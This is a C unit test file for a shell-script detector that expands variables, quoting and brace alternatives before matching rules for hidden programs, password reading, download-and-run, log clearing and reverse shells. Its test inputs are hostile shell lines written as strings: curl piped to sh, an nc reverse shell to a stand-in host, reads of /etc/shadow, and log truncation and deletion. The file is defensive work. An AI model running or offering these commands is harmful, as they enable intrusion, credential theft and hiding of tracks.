#include "detect/capability/expansion.h"

#include "detect/capability/judged.h"

static bool fires(const char *script, const char *rule)
{
    struct rules rules;
    struct judged judged;
    rules_open(&rules);
    judged_open(&judged, &rules, bytes_of_text(script), shell_read);
    bool is_found = judged_find(&judged, bytes_of_text(rule)) != NULL;
    judged_close(&judged);
    rules_close(&rules);
    return is_found;
}

static void puts_in_what_a_variable_holds(void **state)
{
    (void)state;
    assert_true(fires("d=/dev/shm\nexport n=kworker\n$d/$n &\n", "capability/hidden-program"));
    assert_true(fires("d=/dev/shm\n\"${d}/x\"\n", "capability/hidden-program"));
    assert_true(fires("f=/etc/shadow\ncat < $f > /srv/a\n", "capability/passwords-read"));
}

static void splits_what_is_not_quoted(void **state)
{
    (void)state;
    assert_true(
        fires("c='curl -s'\n$c http://192.0.2.10/x | sh\n", "capability/download-and-run"));
    assert_false(
        fires("c='curl -s'\n\"$c\" http://192.0.2.10/x | sh\n", "capability/download-and-run"));
}

static void keeps_what_the_command_did_whose_output_is_held(void **state)
{
    (void)state;
    assert_true(fires("t=$(curl -s http://192.0.2.10/x)\neval \"$t\"\n",
                      "capability/download-and-run"));
    assert_false(fires("t=$(curl -s http://192.0.2.10/x)\nt=none\neval \"$t\"\n",
                       "capability/download-and-run"));
}

static void sets_out_alternatives_in_braces(void **state)
{
    (void)state;
    assert_true(fires("truncate -s 0 /var/log/{auth.log,syslog}\n", "capability/logs-cleared"));
    assert_true(fires("{nc,-e,/bin/sh,192.0.2.10,44}\n", "capability/reverse-shell"));
    assert_false(
        fires("truncate -s 0 '/var/log/{auth.log,syslog}'\n", "capability/logs-cleared"));
}

static void leaves_what_it_cannot_know_as_written(void **state)
{
    (void)state;
    assert_false(fires("d=/dev/shm\nd=$1\n$d/x\n", "capability/hidden-program"));
    assert_false(fires("d=/dev/shm\n'$d'/x\n", "capability/hidden-program"));
    assert_false(fires("d=/dev/shm true\n$d/x\n", "capability/hidden-program"));
    assert_false(fires("root=\nrm -rf $root/var/log/audit\n", "capability/logs-cleared"));
}

static void forgets_the_oldest_of_too_many_variables(void **state)
{
    (void)state;
    struct text AUTO(text_done) script = text_of_limit(1U << 20);
    text_add(&script, "d=/dev/shm\n");
    for (int i = 0; i < VARIABLES_MAX; i++) {
        text_addf(&script, "v%d=x\n", i);
    }
    text_add(&script, "$d/x\n");
    assert_false(fires(text_terminated(&script), "capability/hidden-program"));
}

static void leaves_words_that_grow_beyond_the_limit_as_written(void **state)
{
    (void)state;
    struct text AUTO(text_done) script = text_of_limit(1U << 20);
    text_addf(&script, "v=%0*d\necho ", VARIABLE_VALUE_MAX, 0);
    for (int i = 0; i < 2 * EXPANSION_TEXT_MAX / VARIABLE_VALUE_MAX; i++) {
        text_add(&script, "$v");
    }
    text_add(&script, " {a,b}{c,d} $v\nd=/dev/shm\n$d/x\n");
    assert_true(fires(text_terminated(&script), "capability/hidden-program"));
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(puts_in_what_a_variable_holds),
        cmocka_unit_test(splits_what_is_not_quoted),
        cmocka_unit_test(keeps_what_the_command_did_whose_output_is_held),
        cmocka_unit_test(sets_out_alternatives_in_braces),
        cmocka_unit_test(leaves_what_it_cannot_know_as_written),
        cmocka_unit_test(forgets_the_oldest_of_too_many_variables),
        cmocka_unit_test(leaves_words_that_grow_beyond_the_limit_as_written),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
